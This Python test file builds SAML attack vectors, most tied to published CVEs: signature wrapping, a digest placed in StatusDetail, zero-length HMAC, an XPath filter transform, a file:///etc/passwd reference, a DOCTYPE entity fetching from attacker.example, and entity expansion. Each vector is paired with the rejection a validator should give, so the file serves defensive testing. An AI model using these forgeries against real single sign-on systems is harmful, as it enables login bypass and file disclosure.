"""Attacks that were published against some other product, each with the number or the paper under which it is known.

Those on wrapping, keys and IDs stand in files of their own.
"""

import base64
import copy
import hashlib
from dataclasses import replace

from lxml import etree

from tests.vectors.accepted import OKTA
from tests.vectors.encryption import encrypt_assertion
from tests.vectors.message import DS, SAML, SAMLP, Signing, digest_of, fill_in, sign, signed
from tests.vectors.vector import Vector, document
from tests.vectors.wrapping import FORGED, assertion_of, evil_assertion, extensions, signature_of

_MD = "urn:oasis:names:tc:SAML:2.0:metadata"
_DENIED = OKTA.status.replace("status:Success", "status:Responder")


def published() -> list[Vector]:
    """Every vector of this file."""
    return [*_covered_elsewhere(), *_bent(), *_doctypes(), *_broken_documents(), *_broken_base64()]


def _bad(
    name: str, code: str, why: str, tree: etree._Element | str | bytes, *, facts: dict[str, str] | None = None
) -> Vector:
    return Vector(
        path=f"attacks/{name}", why=why, expect=f"saml.{code}", document=document(tree), facts=dict(facts or {})
    )


def _covered_elsewhere() -> list[Vector]:
    """A good signature of the right key, over something that is not what is read."""
    return [
        _bad(
            "signed-response-beside-a-forged-encrypted-one",
            "assertion_count",
            "An old signed Response in Extensions, beside an assertion that the attacker has encrypted (php-saml).",
            _old_beside_encrypted(),
        ),
        _bad(
            "signature-over-metadata",
            "signature_reference",
            "The signature of the provider's metadata, which is signed by the same key, in a forged assertion.",
            _signed_elsewhere(f'<EntityDescriptor xmlns="{_MD}" ID="_metadata" entityID="{OKTA.issuer}"/>'),
            facts={"received": "#_metadata"},
        ),
        _bad(
            "signature-over-an-attribute-value",
            "signature_reference",
            "The signature of one value of an attribute, in the forged assertion around it.",
            _signed_elsewhere(f'<saml2:AttributeValue xmlns:saml2="{SAML}" ID="_value">x</saml2:AttributeValue>'),
            facts={"received": "#_value"},
        ),
        _bad(
            "digest-elsewhere",
            "signature_wrong",
            "The digest of the forged assertion in StatusDetail, where a search finds it first (CVE-2024-45409).",
            _digest_elsewhere(),
        ),
        _bad(
            "signed-error-hides-an-assertion",
            "signature_structure",
            "A signed Response that reports an error, kept in ds:Object of a Response that reports success.",
            _signed_error(),
            facts={"part": "Object"},
        ),
    ]


def _old_beside_encrypted() -> etree._Element:
    root = encrypt_assertion(FORGED.tree())
    root.insert(1, extensions(signed(OKTA.tree(), "Response")))
    return root


def _signed_elsewhere(covered: str) -> etree._Element:
    root = FORGED.tree()
    element = etree.fromstring(covered)
    stolen = sign(element, how=Signing())
    element.remove(stolen)
    root.insert(1, extensions(element))
    assertion_of(root).insert(1, stolen)
    return root


def _digest_elsewhere() -> etree._Element:
    root = signed(OKTA.tree(), "Assertion")
    original, evil = assertion_of(root), evil_assertion(OKTA.assertion_id)
    forged_digest = digest_of(evil, how=Signing())
    evil.insert(1, copy.deepcopy(signature_of(original)))
    root.replace(original, evil)
    status = root.find(f"{{{SAMLP}}}Status")
    if status is None:
        raise LookupError("Status")
    detail = etree.SubElement(status, f"{{{SAMLP}}}StatusDetail")
    etree.SubElement(detail, f"{{{DS}}}DigestValue").text = forged_digest
    return root


def _signed_error() -> etree._Element:
    error = replace(OKTA, status=_DENIED).tree()
    error.remove(assertion_of(error))
    signed(error, "Response")
    stolen = signature_of(error)
    error.remove(stolen)
    root = replace(FORGED, response_id="_another").tree()
    etree.SubElement(stolen, f"{{{DS}}}Object").append(error)
    root.insert(1, stolen)
    return root


def _bent() -> list[Vector]:
    """Signatures whose parts are not what they seem."""
    good = document(signed(OKTA.tree(), "Assertion")).decode()
    enveloped = f'<ds:Transform Algorithm="{DS}enveloped-signature"/>'
    filter_2 = "http://www.w3.org/2002/06/xmldsig-filter2"
    chosen = f'<x:XPath xmlns:x="{filter_2}" Filter="subtract">//*</x:XPath>'
    selecting = (enveloped, f'<ds:Transform Algorithm="{filter_2}">{chosen}</ds:Transform>')
    return [
        _bad(
            "golden-response",
            "xml_feature_refused",
            "The digest of nothing, and a relative namespace, which makes canonicalization end in it (CVE-2025-66568).",
            _golden(),
            facts={"feature": "relative namespace"},
        ),
        _bad(
            "hmac-truncated",
            "signature_structure",
            "HMAC whose result is cut to no bits at all (CVE-2009-0217).",
            _truncated(),
            facts={"part": "SignatureMethod"},
        ),
        _bad(
            "signature-value-loose",
            "signature_structure",
            "A character in SignatureValue that lenient base64 skips (CVE-2025-48995).",
            good.replace("<ds:SignatureValue>", "<ds:SignatureValue>%", 1),
            facts={"part": "SignatureValue"},
        ),
        _bad(
            "transform-xpath-filter-2",
            "signature_structure",
            "A filter takes the content out of what is digested.",
            signed(OKTA.tree(), "Assertion", how=Signing(transforms=selecting)),
            facts={"part": "Transform"},
        ),
        _bad(
            "reference-file",
            "signature_reference",
            "A Reference to a file of the server.",
            signed(OKTA.tree(), "Assertion", how=Signing(uri="file:///etc/passwd")),
            facts={"received": "file:///etc/passwd"},
        ),
    ]


def _golden() -> etree._Element:
    root = FORGED.tree()
    signature = sign(assertion_of(root), how=Signing())
    value = signature.find(f".//{{{DS}}}DigestValue")
    if value is None:
        raise LookupError("DigestValue")
    value.text = base64.b64encode(hashlib.sha256(b"").digest()).decode()
    fill_in(signature, how=Signing())
    written = document(root).decode()
    marker = f'ID="{FORGED.assertion_id}"'
    return etree.fromstring(written.replace(marker, f'xmlns:x="1" {marker}', 1).encode())


def _truncated() -> etree._Element:
    root = FORGED.tree()
    signature = sign(assertion_of(root), how=Signing(method=DS + "hmac-sha1"))
    method = signature.find(f".//{{{DS}}}SignatureMethod")
    if method is None:
        raise LookupError("SignatureMethod")
    etree.SubElement(method, f"{{{DS}}}HMACOutputLength").text = "0"
    return root


def _doctypes() -> list[Vector]:
    good = document(signed(OKTA.tree(), "Assertion")).decode()
    long = "a" * 2_000
    return [
        _bad(
            "doctype-parameter-entity",
            "doctype",
            "A parameter entity that fetches more declarations (CVE-2016-10149).",
            '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>' + good,
        ),
        _bad(
            "doctype-default-attribute",
            "doctype",
            "A document type that gives each assertion an ID of its choice.",
            f'<!DOCTYPE r [<!ATTLIST Assertion ID CDATA "{OKTA.assertion_id}">]>' + good,
        ),
        _bad(
            "doctype-entity-in-signed-text",
            "doctype",
            "An entity inside the signed address, which two parsers read as two addresses (CVE-2025-23369).",
            '<!DOCTYPE r [<!ENTITY x "">]>' + good.replace("dana.whitfield@", "dana&x;.whitfield@", 1),
        ),
        _bad(
            "doctype-quadratic",
            "doctype",
            "One long entity, a thousand times.",
            f'<!DOCTYPE r [<!ENTITY x "{long}">]>' + good.replace("IT Operations", "&x;" * 1_000, 1),
        ),
    ]


def _broken_documents() -> list[Vector]:
    """Nothing is repaired: of two parsers that repair, each repairs in its own way (CVE-2022-39299, CVE-2022-39353)."""
    good = document(signed(OKTA.tree(), "Assertion")).decode()
    forged = document(evil_assertion()).decode()
    accented = replace(OKTA, name_id=(OKTA.name_id or "").replace("dana", "d\u00e4na"))
    latin = signed(accented.tree(), "Assertion")
    second = good.replace("<saml2:Assertion ", '<saml2::Assertion xmlns:saml2="urn:x" ', 1)
    return [
        _bad(
            "assertion-behind-the-end", "not_xml", "A forged assertion behind the end of the Response.", good + forged
        ),
        _bad("text-behind-the-end", "not_xml", "Text behind the end of the Response.", good + "x"),
        _bad("cut-off", "not_xml", "The end of the document is missing.", good[:-30]),
        _bad(
            "prefix-taken-back",
            "not_xml",
            "A prefix that is taken back, and used (The Fragile Lock, 2025).",
            good.replace(f'<ds:Signature xmlns:ds="{DS}"', '<ds:Signature xmlns:ds=""', 1),
        ),
        _bad("two-colons", "not_xml", "A name with two colons (CVE-2020-29511).", second),
        _bad(
            "character-that-is-none",
            "not_xml",
            "A reference to a character that XML does not have.",
            good.replace("dana.whitfield@", "dana.whitfield&#0;@", 1),
        ),
        _bad(
            "latin-1-undeclared",
            "not_xml",
            "Bytes that are no UTF-8, in a document that declares no other encoding.",
            etree.tostring(latin, encoding="unicode").encode("latin-1"),
        ),
    ]


def _broken_base64() -> list[Vector]:
    """What a lenient decoder would pass over."""
    form = base64.b64encode(document(signed(OKTA.tree(), "Assertion")))
    return [
        Vector(
            path="attacks/base64-of-urls",
            why="The alphabet of URLs: what one decoder skips another one reads.",
            expect="saml.not_base64",
            form_value=form[:100] + b"-_" + form[102:],
            facts={"found": "a hyphen"},
        ),
        Vector(
            path="attacks/base64-twice",
            why="Encoded twice.",
            expect="saml.not_xml",
            form_value=base64.b64encode(form),
        ),
    ]
